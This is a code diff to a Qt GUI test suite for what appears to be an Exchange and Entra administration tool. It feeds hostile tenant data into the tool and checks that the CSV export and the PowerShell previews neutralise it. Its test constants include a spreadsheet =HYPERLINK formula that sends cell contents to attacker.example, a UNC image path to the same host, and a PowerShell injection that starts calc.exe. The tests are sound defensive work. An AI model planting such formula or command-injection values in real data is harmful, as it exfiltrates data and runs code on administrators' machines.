@@ -10,6 +10,7 @@
 #include "MainWindow.h"
 #include "PowerShellShape.h"
 #include "TestPaths.h"
+#include "access/AccessCheckCard.h"
 #include "access/AccessView.h"
 #include "access/ScopeAppWizard.h"
 #include "activity/ActivityModel.h"
@@ -18,7 +19,9 @@
 #include "apps/AppListModel.h"
 #include "apps/AppsView.h"
 #include "auth/SignInManager.h"
+#include "common/ModelExporter.h"
 #include "log/Log.h"
+#include "report/TableWriter.h"
 #include "requests/RequestDetailPane.h"
 #include "requests/RequestTableModel.h"
 #include "requests/RequestsView.h"
@@ -69,6 +72,8 @@ const QString CohoAppId = QStringLiteral("600cec8d-d27b-4389-908c-e0264546ea50")
 const QString Badge = QStringLiteral("<b>\u2714 Verified</b> ");
 const QString Image = QStringLiteral("<img src=\"\\\\attacker.example\\share\\x.png\">");
 
+const QString Formula = QStringLiteral("=HYPERLINK(\"https://attacker.example/?\"&A1,\"Adatum Timesheets\")");
+
 // And a line of its own for PowerShell, which ends a comment (and a line) at CR.
 const QString Command = QStringLiteral("\rStart-Process calc.exe # ");
 
@@ -118,6 +123,12 @@ QJsonObject hostileTenant()
              mapObjects(t.value(QStringLiteral("servicePrincipals")).toArray(), [](QJsonObject& sp) {
                  if (sp.value(QStringLiteral("appOwnerOrganizationId")).toString() == MicrosoftTenant) {
                      return; // Microsoft's own apps and APIs are not the publisher's to name
+                 }
+                 if (sp.value(QStringLiteral("displayName")).toString() == QLatin1String("Adatum Timesheets")) {
+                     // A name a spreadsheet would run as a formula when the admin opens an export.
+                     sp.insert(QStringLiteral("displayName"), Formula);
+                     sp.insert(QStringLiteral("appDisplayName"), Formula);
+                     return;
                  }
                  hostileField(sp, "displayName");
                  hostileField(sp, "appDisplayName");
@@ -212,7 +223,7 @@ public:
 
     void check(const QString& where, const QString& raw, const QString& shown)
     {
-        const bool image = raw.contains(QLatin1String("attacker.example"));
+        const bool image = raw.contains(QLatin1String("share\\x.png"));
         const bool badge = raw.contains(QStringLiteral("\u2714 Verified"));
         if (!image && !badge) {
             return;
@@ -509,6 +520,17 @@ void TestHostileTenantGui::appsAndTheirDialogs()
     }
     GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-apps-view.png"));
 
+    // The export an admin opens in Excel (ModelExporter → TableWriter): the formula-named app is a text cell.
+    QStringList keys;
+    for (int c = 0; c < view->model()->columnCount(); ++c) {
+        keys << QStringLiteral("c%1").arg(c);
+    }
+    const QString csv = QString::fromUtf8(TableWriter::toCsv(ModelExporter::toTable(*view->model(), keys)));
+    QVERIFY2(csv.contains(QStringLiteral("\"'=HYPERLINK(")), qPrintable(csv.left(2000)));
+    for (const QString& line : csv.split(QStringLiteral("\r\n"))) {
+        QVERIFY2(!line.startsWith(QLatin1Char('=')) && !line.contains(QLatin1String(",=")), qPrintable(line));
+    }
+
     QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("keepOnlyButton")), Qt::LeftButton);
     auto* keepOnly = waitForChild<QDialog>(m_window, QStringLiteral("keepOnlyDialog"));
     QVERIFY(keepOnly);
@@ -595,6 +617,27 @@ void TestHostileTenantGui::mailboxAccessAndTheWizard()
         tabs->setCurrentIndex(0);
     }
     // The RBAC tab's equivalent, once Exchange has been read.
+    // Test a mailbox: Exchange's answer beside the directory's, naming the (hostile) mailbox, group and app.
+    view->testMailbox(QStringLiteral("aisha.rahman@contoso.com"));
+    AccessCheckCard* card = view->testCard();
+    QTRY_VERIFY_WITH_TIMEOUT(card->hasCheck() && card->check().exchangeAsked, 30000);
+    scan("Test a mailbox", 3);
+    verifyPowerShell(QStringLiteral("test PowerShell"),
+                     card->findChild<QLabel*>(QStringLiteral("checkPowerShell"))->text());
+
+    // Removing the policy: the Exchange plan preview, not applied.
+    view->findChild<QTabWidget*>(QStringLiteral("accessTabs"))->setCurrentIndex(0);
+    policies->setCurrentItem(policies->topLevelItem(0));
+    policies->topLevelItem(0)->setSelected(true);
+    auto* remove = view->findChild<QPushButton*>(QStringLiteral("removePolicy"));
+    QVERIFY(remove->isEnabled());
+    remove->click();
+    auto* removal = GuiTestSupport::waitForWidget<QDialog>(QStringLiteral("exchangePlanPreviewDialog"));
+    QVERIFY(removal);
+    scan("Remove policy preview");
+    removal->reject();
+    QTRY_VERIFY(!removal->isVisible());
+
     auto* equivalent = view->findChild<QPlainTextEdit*>(QStringLiteral("rbacEquivalent"));
     QVERIFY(equivalent);
     QTRY_VERIFY_WITH_TIMEOUT(!equivalent->toPlainText().startsWith(QLatin1String("# Reading")), 30000);
